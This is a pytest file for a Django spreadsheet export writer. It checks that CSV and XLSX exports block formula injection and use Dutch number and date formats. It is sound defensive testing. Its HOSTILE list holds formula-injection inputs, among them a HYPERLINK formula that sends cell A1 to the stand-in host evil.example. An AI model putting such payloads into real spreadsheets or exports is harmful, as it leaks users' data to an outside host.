"""The shared export writer: no formula injection, Dutch Excel conventions, typed XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from spreadsheets.exports import (
    DATE,
    DATETIME,
    DECIMAL,
    FORMULA_STARTS,
    INTEGER,
    Column,
    Table,
    csv_response,
    download,
    xlsx_response,
)

COLUMNS = [
    Column("naam"),
    Column("aantal", INTEGER),
    Column("score", DECIMAL, digits=1),
    Column("datum", DATE),
    Column("moment", DATETIME),
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(1,1)",
    "\tTab",
    "\rCR",
]


def _csv(table: Table) -> list[list[str]]:
    body = csv_response(table).getvalue()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_csv_neutralises_formulas_and_keeps_numbers_numbers() -> None:
    moment = dt.datetime(2027, 3, 1, 8, 5, tzinfo=dt.UTC)
    rows = [[text, -3, Decimal("-2.45"), dt.date(2027, 2, 1), moment] for text in HOSTILE]
    header, *lines = _csv(Table("x", COLUMNS, rows))
    assert header == ["naam", "aantal", "score", "datum", "moment"]
    for line, text in zip(lines, HOSTILE, strict=True):
        assert line[0] == "'" + text
        # Numbers stay numbers (a minus sign is not neutralised there); Dutch conventions.
        assert line[1:] == ["-3", "-2,5", "01-02-2027", "01-03-2027 09:05"]


def test_csv_rounds_figures_and_leaves_ordinary_text_alone() -> None:
    rows: list[list[Any]] = [
        ["Bakkerij De Vries", 12, 71.25, None, None],
        ["", None, 0.04, None, None],
    ]
    _, first, second = _csv(Table("x", COLUMNS, rows))
    assert first == ["Bakkerij De Vries", "12", "71,3", "", ""]
    assert second == ["", "", "0,0", "", ""]


@given(st.text(min_size=1, max_size=40))
def test_no_text_ever_reaches_excel_as_a_formula(text: str) -> None:
    body = csv_response(Table("x", [Column("t")], [[text]])).getvalue()
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert not cell.startswith(FORMULA_STARTS)


def test_xlsx_is_typed_and_never_holds_a_formula() -> None:
    moment = dt.datetime(2027, 3, 1, 9, 5, tzinfo=ZoneInfo("Europe/Amsterdam"))
    rows = [[text, 7, 3.14159, dt.date(2027, 2, 1), moment] for text in HOSTILE]
    response = xlsx_response(Table("lijst", COLUMNS, rows))
    assert response["Content-Disposition"] == 'attachment; filename="lijst.xlsx"'
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    for row, text in zip(cells, HOSTILE, strict=True):
        # (XML turns a carriage return into a line feed when the file is read back.)
        assert row[0].data_type == "s" and row[0].value == text.replace("\r", "\n")
        assert row[1].value == 7 and row[2].value == pytest.approx(3.1)
        # Excel has no time zones: dates and Dutch wall-clock times, naive.
        day, moment_read = row[3].value, row[4].value
        assert isinstance(day, dt.datetime) and isinstance(moment_read, dt.datetime)
        assert day.date() == dt.date(2027, 2, 1)
        assert (moment_read.date(), moment_read.time()) == (dt.date(2027, 3, 1), dt.time(9, 5))


def test_download_picks_the_format_from_the_address() -> None:
    table = Table("x", [Column("a")], [["b"]])
    request = RequestFactory().get("/", {"formaat": "xlsx"})
    assert download(request, table)["Content-Type"].startswith("application/vnd.openxml")
    table = Table("x", [Column("a")], [["b"]])
    assert download(RequestFactory().get("/"), table)["Content-Type"] == "text/csv; charset=utf-8"
